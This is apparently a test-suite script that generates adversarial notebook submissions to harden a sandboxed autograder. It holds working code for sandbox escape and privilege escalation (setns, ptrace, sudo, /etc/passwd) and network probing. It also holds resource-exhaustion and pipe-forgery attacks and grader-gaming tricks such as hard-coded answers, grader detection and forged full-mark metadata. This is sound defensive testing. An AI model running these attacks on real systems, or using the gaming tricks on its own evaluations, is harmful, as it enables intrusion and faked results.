        "numerical_gradient": {"ok": True, "value": {"__fn__": ["polynomial", {"coeffs": [1.0]}]}},
    }
    if name == "gradient_descent":
        lie = ({"ok": True, "value": {"__scalar__": ["<f8", "!!"]}} if args[3] == 0.0
               else {"ok": "yes", "kind": {"x": 1}, "error": ["a"] * 10})
    else:
        lie = lies.get(name, {"ok": True, "value": {"__ndarray__": ["<f8", [-1], ""]}})
    _send_and_die(_frame(json.dumps(lie).encode()))
""", last=every_function("_forge({name!r}, [{names}])"), forbid=("internal grader error", "course staff"))

attack(31, "protocol-flood-hang", "shrink the grader's request pipe to one page (F_SETPIPE_SZ), queue 200 forged "
       "replies, then sleep: the grader keeps sending requests nobody reads", first=r'''
import fcntl
import json
import os
import stat
import struct
import time


def _pipes():
    found = {}
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                found[fcntl.fcntl(fd, fcntl.F_GETFL) & 3] = fd
        except OSError:
            continue
    return found


def _jam():
    pipes = _pipes()
    try:
        fcntl.fcntl(pipes[os.O_RDONLY], 1031, 4096)  # F_SETPIPE_SZ on the request pipe
    except (OSError, KeyError):
        pass
    payload = json.dumps({"ok": True, "value": None}).encode()
    for _ in range(200):
        os.write(pipes[os.O_WRONLY], struct.pack(">I", len(payload)) + payload)
    time.sleep(3600)
''', last=every_function("_jam()"), phrases=("is None",))

attack(32, "disk-fill", "write a 1 GB file into its working folder, /tmp, /var/tmp and /dev/shm, and many small "
       "files into the host's world-writable /run/lock", needs_root=True, last=every_function(r'''import os
written = {}
for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
    path = os.path.join(folder, "fill.bin")
    try:
        with open(path, "wb") as handle:
            for _ in range(1024):
                handle.write(b"\0" * 2**20)
                written[folder] = written.get(folder, 0) + 1
    except OSError as error:
        written[folder] = f"{written.get(folder, 0)} MB then {type(error).__name__}"
for i in range(200):
    try:
        with open(f"/run/lock/''' + MARKER + r'''-fill-{i}", "wb") as handle:
            handle.write(b"\0" * 4096)
    except OSError as error:
        written["/run/lock"] = type(error).__name__
        break
raise OSError(f"disk: {written}")'''), phrases=("raised OSError",))

attack(33, "ipc-leak", "create SysV shared-memory segments (touched, 2 x 32 MB), a message queue and semaphores "
       "that outlive the worker", needs_root=True, last=every_function(r'''import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
made = []
for i in range(2):
    shmid = libc.shmget(''' + str(IPC_KEY_BASE) + r''' + i, 32 * 2**20, 0o1000 | 0o666)
    if shmid >= 0:
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 1, 32 * 2**20)
            libc.shmdt(ctypes.c_void_p(address))
        made.append(f"shm {shmid}")
if libc.msgget(''' + str(IPC_KEY_BASE + 8) + r''', 0o1000 | 0o666) >= 0:
    made.append("msg")
if libc.semget(''' + str(IPC_KEY_BASE + 12) + r''', 4, 0o1000 | 0o666) >= 0:
    made.append("sem")
raise RuntimeError(f"left behind: {made}")'''), phrases=("raised RuntimeError",))

# ---- lying answers -------------------------------------------------------------------------------------------

attack(34, "ndarray-subclass", "return ndarray subclasses whose __eq__, __sub__, __abs__ and __array_ufunc__ all "
       "claim a perfect match", first=r'''
import numpy as np


class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)

    def __sub__(self, other):
        return np.zeros(np.shape(other))

    def __abs__(self):
        return np.zeros(self.shape)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)


def _liar(shape=(3,)):
    return np.zeros(shape).view(_Liar)
''', last=every_function("return _liar()"), phrases=("return a NumPy array of floats",))

attack(35, "scalar-subclasses", "return float/int/str subclasses and an np.float64 subclass that claims "
       "__module__ = 'numpy', each with __eq__ always True", first=r'''
import numpy as np


class _F(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


class _S(str):
    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


class _NpF(np.float64):
    __module__ = "numpy"  # the worker's encoder trusts NumPy scalar types by their module name

    def __eq__(self, other):
        return True

    __hash__ = np.float64.__hash__

_CALLS = [0]


def _pick():
    _CALLS[0] += 1
    return [_F(1.0), _S("minimum"), _NpF(12345.0), {_F(0.01): _S("converges")}, True][_CALLS[0] % 5]
''', last=every_function("return _pick()"), phrases=("__main__._F",))

attack(36, "rigged-objects", "return plain objects rigging __array__, __float__, __eq__, __len__, __abs__, "
       "__bool__, __iter__ and __array_interface__", first=r'''
import numpy as np


class _Rigged:
    __array_interface__ = {"shape": (3,), "typestr": "<f8", "data": (0, False), "version": 3}

    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)

    def __float__(self):
        return 0.0

    def __eq__(self, other):
        return True

    def __len__(self):
        return 3

    def __abs__(self):
        return 0.0

    def __bool__(self):
        return True

    def __iter__(self):
        return iter([0.0, 0.0, 0.0])

    def __hash__(self):
        return 0
''', last=every_function("return _Rigged()"), phrases=("_Rigged",))

attack(37, "nan-inf", "return NaN, +inf and -inf arrays of the right shapes, and a verdict dict with a NaN key and "
       "NaN verdicts", first=SHAPED + r"""
_CALLS = [0]


def _bad(name, args):
    _CALLS[0] += 1
    fill = [np.nan, np.inf, -np.inf][_CALLS[0] % 3]
    if name == "learning_rate_verdicts":
        return {float("nan"): "converges", 0.01: float("nan"), 0.1: float("inf")}
    if name == "classify_critical_point":
        return float("nan")
    return _shaped(name, args, fill)
""", last=every_function("return _bad({name!r}, [{names}])"), phrases=("where a finite number was expected",))

attack(38, "odd-dtypes", "return complex, int, bool, uint8, object, structured, datetime and string arrays of the "
       "right shapes", first=SHAPED + r"""
_CALLS = [0]


def _odd(name, args):
    kinds = [np.complex128, np.int64, bool, object, [("a", "<f8")], "datetime64[s]", "U3", np.uint8]
    _CALLS[0] += 1
    kind = kinds[_CALLS[0] % len(kinds)]
    if name in ("learning_rate_verdicts", "classify_critical_point"):
        return np.zeros(5, dtype=kind)
    return _shaped(name, args, 0, dtype=kind)
""", last=every_function("return _odd({name!r}, [{names}])"), phrases=("has dtype",))

attack(39, "wrong-shapes", "compute right numbers but return them in the wrong shape (extra axis, transposed, "
       "flattened batches, scalars as (1,))", first="import numpy as np\n", last=r'''
def f(x):
    return (np.asarray(x, dtype=float) ** 2)[..., None]


def df(x):
    return (2 * np.asarray(x, dtype=float))[None]


def f_2d(v):
    return np.atleast_1d(np.sum(np.asarray(v, dtype=float) ** 2, axis=-1))[..., None]


def df_2d(v):
    return (2 * np.asarray(v, dtype=float)).T[..., None]


def numerical_derivative(fn, x, h=1e-5):
    return np.atleast_1d((fn(x + h) - fn(x - h)) / (2 * h))[..., None]


def numerical_gradient(fn, x, h=1e-5):
    x = np.array(x, dtype=float)
    grad = np.zeros_like(x)
    for i in range(x.size):
        step = np.zeros_like(x)
        step[i] = h
        grad[i] = (fn(x + step) - fn(x - step)) / (2 * h)
    return grad[:, None]


def gradient_descent(df, x0, lr, eps=1e-6, max_steps=1000):
    x = np.array(x0, dtype=float)
    trajectory = [x]
    for _ in range(max_steps):
        grad = np.asarray(df(x), dtype=float)
        if np.linalg.norm(grad) < eps:
            break
        x = x - lr * grad
        trajectory.append(x)
    return np.array(trajectory)[..., None].T


def chain_rule_derivative(x):
    x = np.asarray(x, dtype=float)
    return np.atleast_1d(2 * (3 * x**3 + 2) * 9 * x**2)[..., None]


def nonconvex_grad(v):
    v = np.asarray(v, dtype=float)
    x, y = v[..., 0], v[..., 1]
    return np.stack([x**3 + x**2 - 2 * x, 2 * y], axis=0)[..., None]
''', phrases=("has shape",))

attack(40, "python-containers", "compute right numbers but return lists, tuples, dicts with string keys, "
       "and numbers as strings", first="import numpy as np\n", last=r'''
def f(x):
    return (np.asarray(x, dtype=float) ** 2).tolist()


def df(x):
    return tuple(np.ravel(2 * np.asarray(x, dtype=float)))


def f_2d(v):
    return {"value": np.sum(np.asarray(v, dtype=float) ** 2, axis=-1).tolist()}


def df_2d(v):
    return str((2 * np.asarray(v, dtype=float)).tolist())


def numerical_derivative(fn, x, h=1e-5):
    return np.atleast_1d((fn(x + h) - fn(x - h)) / (2 * h)).tolist()


def gradient_descent(df, x0, lr, eps=1e-6, max_steps=1000):
    x = np.array(x0, dtype=float)
    trajectory = [x.tolist()]
    for _ in range(max_steps):
        grad = np.asarray(df(x), dtype=float)
        if np.linalg.norm(grad) < eps:
            break
        x = x - lr * grad
        trajectory.append(x.tolist())
    return trajectory


def learning_rate_verdicts():
    return {"0.01": "converges", "0.1": "converges", "1.0": "oscillates", "100.0": "diverges", "1000.0": "diverges"}


def chain_rule_derivative(x):
    x = np.asarray(x, dtype=float)
    return str(2 * (3 * x**3 + 2) * 9 * x**2)


def nonconvex_grad(v):
    v = np.asarray(v, dtype=float)
    x, y = v[..., 0], v[..., 1]
    return [(x**3 + x**2 - 2 * x).tolist(), (2 * y).tolist()]


def classify_critical_point(hessian, tol=1e-8):
    return ["minimum"]
''', phrases=("is a list", "there is no verdict"))

# ---- gaming the tests ----------------------------------------------------------------------------------------

attack(41, "hardcode-public", "hard-code the public self-checks' expected values (labkit/public/gradient_descent.py) "
       "and answer them whatever the input", first="import numpy as np\n", last=r'''
def f(x):
    return np.array([4.0, 0.25, 0.0, 2.25, 9.0])


def df(x):
    return np.array([-4.0, -1.0, 0.0, 3.0, 6.0])


def f_2d(v):
    return 25.0 if np.ndim(v) == 1 else np.array([5.0, 0.0, 10.0])


def df_2d(v):
    return np.array([6.0, -8.0])


def numerical_derivative(fn, x, h=1e-5):
    return 12.0


def numerical_gradient(fn, x, h=1e-5):
    return np.array([2.0, 3.0])


def gradient_descent(df, x0, lr, eps=1e-6, max_steps=1000):
    if np.ndim(x0) == 1:
        return np.array([1.0, -2.0]) * 0.5 ** np.arange(4)[:, None]
    return 0.7 ** np.arange(6 if eps == 0.0 else 24)


def chain_rule_derivative(x):
    return 90.0


def nonconvex_grad(v):
    return np.zeros((3, 2)) if np.ndim(v) == 2 else np.array([0.0, 3.0])


def classify_critical_point(hessian, tol=1e-8):
    diagonal = tuple(np.diag(hessian))
    return {(1.0, 2.0): "minimum", (-1.0, -3.0): "maximum", (2.0, -0.5): "saddle point"}.get(diagonal, "degenerate")
''', phrases=("is wrong in", "which is not right"))

attack(42, "detect-grading", "detect the grader (cwd, uid, stdin, worker modules, caller frames) and only then try "
       "every leak; elsewhere it would answer the public checks", needs_root=True, first=FIND_PLACES + r"""
import inspect


def _graded():
    signs = {
        "cwd": os.getcwd().startswith("/tmp/work"),
        "uid": os.getuid() >= 60000,
        "stdin": os.path.realpath("/proc/self/fd/0") == "/dev/null",
        "modules": any(name.startswith("dlcv_worker") for name in sys.modules),
        "frames": any("dlcv_worker" in (frame.filename or "") for frame in inspect.stack()),
    }
    return sum(signs.values()) >= 2, signs


def _behave(name, *args):
    graded, signs = _graded()
    if not graded:
        return None  # in the student's own notebook: hard-coded public answers would go here
    notes = []
    for place in _places():
        for rel in ("solutions/gradient_descent.py", "gradient_descent.py"):
            source = _read(os.path.join(place, rel), notes)
            if source and "def gradient_descent(" in source:
                namespace = {}
                exec(source, namespace)
                return namespace[name](*args)
    raise RuntimeError(f"nothing to copy (grading detected by {sorted(k for k, v in signs.items() if v)})")
""", last=every_function("return _behave({name!r}, {names})"), phrases=("nothing to copy (grading detected",))

attack(43, "closure-introspection", "read the hidden test functions' parameters from their closures (polynomial "
       "coefficients, quadratic forms, sine mixes) and return exact derivatives without any numeric method",
       first="import numpy as np\n", last=r'''
def _params(fn):
    cells = [c.cell_contents for c in (fn.__closure__ or ())]
    names = fn.__code__.co_freevars
    return dict(zip(names, cells))


def numerical_derivative(fn, x, h=1e-5):
    coeffs = _params(fn)["coeffs"]
    return np.polyval(np.polyder(coeffs), np.asarray(x, dtype=float))


def numerical_gradient(fn, x, h=1e-5):
    params = _params(fn)
    x = np.asarray(x, dtype=float)
    if "matrix" in params:
        return params["matrix"] @ x + params["vector"]
    return params["weights"] * np.cos(x + params["phases"])
''', phrases=("numerical_derivative",))

attack(44, "fake-metadata", "valid JSON with forged metadata: nbgrader grade cells worth 1000 points, checksums, "
       "a dlcv score of 29/29, fake outputs saying all tests passed, exercise tags on the wrong cells",
       edit="fake_metadata", phrases=("is not implemented yet",))

attack(45, "network", "open sockets to 127.0.0.1 (ssh, http, jupyter, the VM agent), to public addresses (TCP and "
       "UDP), resolve pypi.org, fetch a URL, connect to every UNIX socket file it can find and to abstract ones", needs_root=True,
       last=every_function(r'''import os, socket, stat, urllib.request
results = []
for host, port in [("127.0.0.1", 22), ("127.0.0.1", 80), ("127.0.0.1", 8888), ("127.0.0.1", 2024),
                   ("1.1.1.1", 443), ("8.8.8.8", 53), ("93.184.216.34", 80)]:
    try:
        with socket.create_connection((host, port)):
            results.append(f"{host}:{port} OPEN")
    except OSError as error:
        results.append(f"{host}:{port} {type(error).__name__}")
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    results.append("udp sent")
except OSError as error:
    results.append(f"udp {type(error).__name__}")
try:
    socket.getaddrinfo("pypi.org", 443)
    results.append("dns OK")
except OSError as error:
    results.append(f"dns {type(error).__name__}")
try:
    urllib.request.urlopen("http://example.com/")
    results.append("http OK")
except Exception as error:
    results.append(f"http {type(error).__name__}")
sockets = []
for top in ("/run", "/var/run", "/var/lib", "/dev", "/home", "/srv", "/opt"):
    for folder, dirs, files in os.walk(top):
        sockets += [os.path.join(folder, n) for n in files if stat.S_ISSOCK(os.lstat(os.path.join(folder, n)).st_mode)]
for path in sockets[:50] + ["\0/tmp/.X11-unix/X0", "\0/org/freedesktop/dbus"]:
    try:
        with socket.socket(socket.AF_UNIX) as unix:
            unix.connect(path)
            results.append(f"{path} OPEN")
    except OSError as error:
        results.append(f"{path} {type(error).__name__}")
raise RuntimeError("network: " + ", ".join(results))'''), phrases=("network: 127.0.0.1:22",),
       forbid=("did not return within", " OPEN", "dns OK", "http OK", "udp sent"))

attack(46, "namespace-escape", "create a user namespace to become 'root', then unmount the tmpfs hiding the "
       "reference, mount a fresh /proc, setns into the grader's namespaces, ptrace the grader", needs_root=True,
       last=copying_attack(r'''
def _find(notes):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    hidden = [p for p in _places() if p.endswith("solutions")] or ["/work/main/solutions"]
    parent = os.getppid()
    for name, flags in (("mnt", 0x00020000), ("net", 0x40000000)):
        try:
            fd = os.open(f"/proc/{parent}/ns/{name}", os.O_RDONLY)
            notes.append(f"setns {name}: {libc.setns(fd, flags)} errno {ctypes.get_errno()}")
        except OSError as error:
            notes.append(f"ns/{name}: {type(error).__name__}")
    notes.append(f"ptrace: {libc.ptrace(16, parent, None, None)} errno {ctypes.get_errno()}")  # PTRACE_ATTACH
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        notes.append(f"unshare errno {ctypes.get_errno()}")
    for path in hidden:
        result = libc.umount2(path.encode(), 2)  # MNT_DETACH
        notes.append(f"umount {path}: {result} errno {ctypes.get_errno()}")
        source = _read(os.path.join(path, "gradient_descent.py"), notes)
        if source:
            return source
    notes.append(f"mount proc: {libc.mount(b'proc', b'/proc', b'proc', 0, None)} errno {ctypes.get_errno()}")
    return None
'''), phrases=("nothing to copy",))

attack(47, "privilege-escalation", "try setuid(0), sudo -n, su, mount, insmod, list the setuid binaries, append to "
       "/etc/passwd", needs_root=True, last=copying_attack(r'''
def _find(notes):
    import subprocess
    try:
        os.setuid(0)
        notes.append("setuid(0) worked")
    except OSError as error:
        notes.append(f"setuid: {type(error).__name__}")
    for command in (["sudo", "-n", "cat", "/work/main/solutions/gradient_descent.py"],
                    ["su", "-c", "cat /work/main/solutions/gradient_descent.py"],
                    ["mount", "-t", "proc", "proc", "/proc"], ["insmod", "/nonexistent.ko"]):
        try:
            done = subprocess.run(command, capture_output=True, text=True, timeout=3, stdin=subprocess.DEVNULL)
            if done.returncode == 0 and "def gradient_descent(" in done.stdout:
                return done.stdout
            notes.append(f"{command[0]}: rc {done.returncode}")
        except Exception as error:
            notes.append(f"{command[0]}: {type(error).__name__}")
    setuid_binaries = []
    for folder in ("/usr/bin", "/bin", "/usr/sbin", "/usr/local/bin"):
        try:
            setuid_binaries += [os.path.join(folder, n) for n in os.listdir(folder)
                                if os.stat(os.path.join(folder, n)).st_mode & 0o4000]
        except OSError:
            pass
    notes.append(f"setuid binaries: {len(setuid_binaries)}")
    try:
        open("/etc/passwd", "a").close()
        notes.append("/etc/passwd writable")
    except OSError as error:
        notes.append(f"/etc/passwd: {type(error).__name__}")
    return None
'''), phrases=("nothing to copy",), forbid=("setuid(0) worked", "/etc/passwd writable"))

attack(48, "thread-desync", "a background thread started at load steals the grader's requests from the pipe and "
       "answers them with forged replies, racing the real worker", first=r'''
import json
import os
import stat
import struct
import threading


def _steal():
    fds = {}
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                fds[__import__("fcntl").fcntl(fd, 3) & 3] = fd
        except OSError:
            continue
    reply = json.dumps({"ok": True, "value": 0.0}).encode()
    while True:
        try:
            header = os.read(fds[os.O_RDONLY], 4)
            if len(header) == 4:
                os.read(fds[os.O_RDONLY], struct.unpack(">I", header)[0])
            os.write(fds[os.O_WRONLY], struct.pack(">I", len(reply)) + reply)
        except Exception:
            return


class _AtLoad:
    threading.Thread(target=_steal, daemon=True).start()
''', phrases=("expected a NumPy array",))

attack(49, "crash-interpreter", "crash the interpreter: a segfault through ctypes, abort(), a C stack overflow from "
       "unbounded recursion with the recursion limit lifted", first=r"""
import ctypes
import sys


def _recurse(n):
    return _recurse(n + 1) + 1


def _crash(name):
    if name == "f":
        ctypes.string_at(0)
    if name == "df":
        ctypes.CDLL(None).abort()
    sys.setrecursionlimit(10**8)
    _recurse(0)
""", last=every_function("_crash({name!r})"), phrases=("the sandbox stopped",))

attack(50, "grader-memory", "make the trusted grader parse replies of empty lists written straight to its pipe: 30 MB "
       "(10 million lists), and 16 MB (5.5 million, just under the grader's 16 MiB frame cap), which a JSON parser "
       "turns into hundreds of megabytes before any check", first=PIPE + r"""


def _bomb(name):
    count = 10_000_000 if name == "f" else 5_500_000
    _send_and_die(_frame(b'{"ok":true,"value":[' + b"[]," * count + b"[]]}"))
""", last=every_function("_bomb({name!r})"), phrases=(("is a list", "cannot read"),))

attack(51, "gil-stall", "stall every other grading thread of the batch: reply with 57 MB, then 16 MB (just under the "
       "frame cap) of JSON floats, which the trusted grader parses while holding the interpreter lock; graded last, "
       "next to the honest submissions", first=PIPE + r"""


def _stall(name):
    count = 15_000_000 if name == "f" else 4_100_000
    _send_and_die(_frame(b'{"ok":true,"value":[' + b"1.5," * count + b"1.5]}"))
""", last=every_function("_stall({name!r})"), phrases=(("is a list", "cannot read"),))

attack(52, "huge-ints", "answer with Python integers far beyond the float range (10**400) where a scalar is allowed, "
       "and as a learning-rate key next to wrong verdicts", last=r"""
def f_2d(v):
    return -(10**400)


def numerical_derivative(fn, x, h=1e-5):
    return 10**400


def learning_rate_verdicts():
    return {10**400: "converges", 0.01: "diverges", 0.1: "diverges", 1.0: "converges", 100.0: "converges",
            1000.0: "oscillates"}


def chain_rule_derivative(x):
    return 10**400
""", phrases=("is not right",))

attack(53, "probe-and-fit", "skip the central difference: sample the hidden test function at a few points, fit the "
       "polynomial exactly and return its exact derivative (a black-box version of reading the parameters)",
       first="import numpy as np\n", last=r"""
def numerical_derivative(fn, x, h=1e-5):
    nodes = np.linspace(-3.0, 3.0, 9)
    coeffs = np.polyfit(nodes, np.array([float(fn(t)) for t in nodes]), 8)
    return np.polyval(np.polyder(coeffs), np.asarray(x, dtype=float))
""", phrases=("with a large h",))

attack(54, "callback-flood", "keep the trusted grader busy through the test functions, which it evaluates itself on "
       "request: call them in a tight loop with 12 MB arguments until the time limit", first="import numpy as np\n",
       last=r"""
def _flood(fn):
    big = np.zeros(1_500_000)
    while True:
        try:
            fn(big)
        except Exception:
            pass


def numerical_derivative(fn, x, h=1e-5):
    _flood(fn)


def numerical_gradient(fn, x, h=1e-5):
    _flood(fn)


def gradient_descent(df, x0, lr, eps=1e-6, max_steps=1000):
    _flood(df)
""", phrases=("did not return within",))

attack(55, "callback-abuse", "write crafted callback requests to the grader's pipe: an unknown function number, a "
       "boolean one, arguments that are not a list, too many values, strings the test function cannot take, and a "
       "request whose answer is never read", first=PIPE + r"""


def _ask(message, read=True):
    os.write(_grader_pipe(), _frame(json.dumps(message).encode()))
    if not read:
        return None
    read_fd = next(fd for fd in range(3, 64) if _is_read_pipe(fd))
    size = struct.unpack(">I", os.read(read_fd, 4))[0]
    return os.read(read_fd, size).decode(errors="replace")[:200]


def _is_read_pipe(fd):
    try:
        return stat.S_ISFIFO(os.fstat(fd).st_mode) and __import__("fcntl").fcntl(fd, 3) & 3 == os.O_RDONLY
    except OSError:
        return False
""", last=r"""
def numerical_derivative(fn, x, h=1e-5):
    if np.ndim(x) == 0:
        return _ask({"callback": 99, "args": [1.0]})
    return _ask({"callback": True, "args": [1.0]})


def numerical_gradient(fn, x, h=1e-5):
    answer = _ask({"callback": 0, "args": "not a list"})
    answer += _ask({"callback": 0, "args": [[0.0] * 100_001]})
    raise RuntimeError(f"the grader answered {answer}")


def gradient_descent(df, x0, lr, eps=1e-6, max_steps=1000):
    if eps == 0.0:
        raise RuntimeError(f"the grader answered {_ask({'callback': 0, 'args': [['a', 'b']]})}")
    _ask({"callback": 0, "args": [1.0]}, read=False)
    return np.zeros((max_steps + 1,) + np.shape(x0))
""", forbid=("internal grader error", "course staff"))

# --------------------------------------------------------------------------------------------- notebook helpers


def load(path):
    return json.loads(path.read_text(encoding="utf-8"))


def dumps(nb):
    """The notebook as nbformat writes it (sorted keys, one-space indent), so regenerating gives the same bytes."""
    return json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n"


def lines(text):
    return text.splitlines(keepends=True)


def code_cell(cell_id, source, metadata=None):
    return {"cell_type": "code", "execution_count": None, "id": cell_id, "metadata": metadata or {}, "outputs": [],
            "source": lines(source)}


def source_of(cell):
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def cell_defining(nb, name):
    """Index of the code cell that defines function ``name``."""
    pattern = re.compile(rf"^def {re.escape(name)}\(", re.M)
    for index, cell in enumerate(nb["cells"]):
        if cell["cell_type"] == "code" and pattern.search(source_of(cell)):
            return index
    raise KeyError(name)


def function_span(source, name):
    """(start, end) character offsets of top-level ``def name`` in ``source`` (up to the next top-level line)."""
    match = re.search(rf"^def {re.escape(name)}\(", source, re.M)
    body = source.index("\n", match.end()) + 1
    following = re.search(r"^\S", source[body:], re.M)
    end = body + following.start() if following else len(source)
    return match.start(), end


def build_attack(spec):
    nb = copy.deepcopy(load(STUB))
    header = (f"# ATTACK {spec.student}: tries to {spec.tries}.\n"
              f"# Expected: scores no more than the untouched stub (0 points); the grader and the batch carry on.\n")
    first = header + ("\n" + textwrap.dedent(spec.first).strip("\n") + "\n" if spec.first.strip() else "")
    first_code = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
    nb["cells"].insert(first_code, code_cell("attack-first", first))
    if spec.last.strip():
        nb["cells"].append(code_cell("attack-last", textwrap.dedent(spec.last).strip("\n") + "\n"))
    if spec.edit:
        EDITS[spec.edit](nb)
    return dumps(nb)


def fake_metadata(nb):
    nb["metadata"]["dlcv"].update({"score": 29, "max_score": 29, "graded": True, "lab": LAB,
                                   "grader_version": "99.0", "inputs_sha256": "0" * 64})
    nb["metadata"]["nbgrader"] = {"__altered": False, "total": 1000, "score": 1000}
    for index, cell in enumerate(nb["cells"]):
        meta = cell["metadata"].setdefault("nbgrader", {})
        if cell["cell_type"] == "code":
            meta.update({"grade": True, "points": 1000, "solution": False, "locked": True,
                         "checksum": "d41d8cd98f00b204e9800998ecf8427e", "grade_id": f"fake-{index}"})
            cell["metadata"]["dlcv"] = {"exercise": "gradient_descent", "functions": ["f"], "score": 29}
            cell["execution_count"] = index
            cell["outputs"] = [{"name": "stdout", "output_type": "stream",
                                "text": ["All tests passed: 29 / 29 points\n"]}]
    nb["cells"].append({"cell_type": "raw", "id": "raw-results", "metadata": {"format": "application/json"},
                        "source": lines(json.dumps({"score": 29, "gradable": True}))})


EDITS = {"fake_metadata": fake_metadata}

# ------------------------------------------------------------------------------------------------ malformed


@dataclass
class Malformed:
    """One malformed submission: how to make it and the EXACT outcome a fair grader gives it.

    ``score``: the exact points. ``gradable``: the results' ``gradable``. ``phrase``: must appear in the reason
    (not gradable) or in the output of some test / the summary output (gradable). ``why``: the reasoning.
    """

    number: int
    name: str
    what: str
    score: float
    gradable: bool
    phrase: str
    why: str
    make: object = None          # fn() -> bytes
    at_test_time: bool = False   # too big to commit: the test builds it into its own tmp folder
    forbid: tuple = ()           # must appear nowhere in what the student is told

    @property
    def student(self):
        return f"mlf{self.number:02d}-{self.name}"

    @property
    def filename(self):
        return f"{self.student}_{LAB}.ipynb"


def solution():
    return copy.deepcopy(load(SOLUTION))


def replace_in_cell(nb, name, new_source):
    """Replace the definition of function ``name`` in its cell by ``new_source``."""
    index = cell_defining(nb, name)
    source = source_of(nb["cells"][index])
    start, end = function_span(source, name)
    nb["cells"][index]["source"] = lines(source[:start] + textwrap.dedent(new_source).strip("\n") + "\n\n\n"
                                         + source[end:].lstrip("\n"))
    return nb


def cut_function(nb, name):
    """Remove ``def name`` from its cell; return its source."""
    index = cell_defining(nb, name)
    source = source_of(nb["cells"][index])
    start, end = function_span(source, name)
    nb["cells"][index]["source"] = lines(source[:start] + source[end:].lstrip("\n"))
    return source[start:end].rstrip("\n") + "\n"


def m_not_json():
    return b"I could not upload my notebook, so here is my answer: gradient descent steps downhill.\n"


def m_truncated():
    raw = dumps(solution()).encode()
    return raw[: len(raw) // 2]


def m_empty():
    return b""


def m_gzip():
    return gzip.compress(dumps(solution()).encode(), mtime=0)


def m_bom():
    return b"\xef\xbb\xbf" + dumps(solution()).encode()


def m_v3():
    nb = solution()
    worksheet = []
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            worksheet.append({"cell_type": "code", "collapsed": False, "input": cell["source"], "language": "python",
                              "metadata": {}, "outputs": [], "prompt_number": None})
        else:
            worksheet.append({"cell_type": "markdown", "metadata": {}, "source": cell["source"]})
    v3 = {"metadata": {"name": "", "signature": "sha256:" + "0" * 64}, "nbformat": 3, "nbformat_minor": 0,
          "worksheets": [{"cells": worksheet, "metadata": {}}]}
    return dumps(v3).encode()


def m_no_cells():
    nb = solution()
    del nb["cells"]
    return dumps(nb).encode()


def m_no_metadata():
    nb = solution()
    del nb["metadata"]
    nb["nbformat_minor"] = 0
    for cell in nb["cells"]:
        cell.pop("id", None)
        cell.pop("metadata", None)
        cell["source"] = source_of(cell)  # one string instead of a list of lines
    return dumps(nb).encode()


def m_duplicate_ids():
    nb = solution()
    for cell in nb["cells"]:
        cell["id"] = "same-id"
    return dumps(nb).encode()


def m_exercise_deleted():
    nb = solution()
    del nb["cells"][cell_defining(nb, "gradient_descent")]
    return dumps(nb).encode()


def m_renamed():
    nb = solution()
    index = cell_defining(nb, "gradient_descent")
    nb["cells"][index]["source"] = lines(source_of(nb["cells"][index]).replace("def gradient_descent(",
                                                                               "def grad_descent("))
    return dumps(nb).encode()


def m_moved():
    nb = solution()
    moved = cut_function(nb, "gradient_descent")
    first_code = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
    nb["cells"].insert(first_code + 1, code_cell("moved-here", moved))
    return dumps(nb).encode()


def m_split():
    nb = solution()
    index = cell_defining(nb, "gradient_descent")
    source = source_of(nb["cells"][index])
    cut = source.index("        grad = np.asarray(df(x), dtype=float)")  # inside the loop: the for has no body left
    nb["cells"][index]["source"] = lines(source[:cut])
    nb["cells"].insert(index + 1, code_cell("second-half", source[cut:]))
    return dumps(nb).encode()


def m_helpers():
    nb = solution()
    replace_in_cell(nb, "gradient_descent", """
        def gradient_descent(df, x0, lr, eps=1e-6, max_steps=1000):
            x = np.array(x0, dtype=float)
            trajectory = [x]
            for _ in range(max_steps):
                grad = np.asarray(df(x), dtype=float)
                if _small(grad, eps):
                    break
                x = _step(x, grad, lr)
                trajectory.append(x)
            return np.array(trajectory)
        """)
    index = cell_defining(nb, "gradient_descent")
    nb["cells"].insert(index + 1, code_cell("my-helpers", "def _small(grad, eps):\n    return np.linalg.norm(grad)"
                                            " < eps\n\n\ndef _step(x, grad, lr):\n    return x - lr * grad\n"))
    return dumps(nb).encode()


def m_markdown():
    nb = solution()
    cell = nb["cells"][cell_defining(nb, "chain_rule_derivative")]
    cell["cell_type"] = "markdown"
    cell.pop("outputs")
    cell.pop("execution_count")
    return dumps(nb).encode()


def m_source_number():
    nb = solution()
    check = next(c for c in nb["cells"] if c["cell_type"] == "code" and "check" in c["metadata"].get("dlcv", {}))
    check["source"] = 42
    return dumps(nb).encode()


def m_junk_cells():
    nb = solution()
    nb["cells"][1:1] = ["a stray string", None, 7, {"no": "type"}, {"cell_type": "code"}]
    return dumps(nb).encode()


def m_magics():
    nb = solution()
    index = cell_defining(nb, "gradient_descent")
    source = source_of(nb["cells"][index])
    nb["cells"][index]["source"] = lines("%load_ext autoreload\n%autoreload 2\n!pip install nothing-at-all\n"
                                         "np.linalg.norm?\n" + source + "\n%timeit gradient_descent(df, 3.0, 0.1)\n")
    nb["cells"].insert(index + 1, code_cell("broken", "def half_written(x:\n    return x\n"))
    return dumps(nb).encode()


def m_lambda():
    nb = solution()
    replace_in_cell(nb, "f", "f = lambda x: x**2  # noqa: E731")
    return dumps(nb).encode()


def m_alias():
    nb = solution()
    index = cell_defining(nb, "gradient_descent")
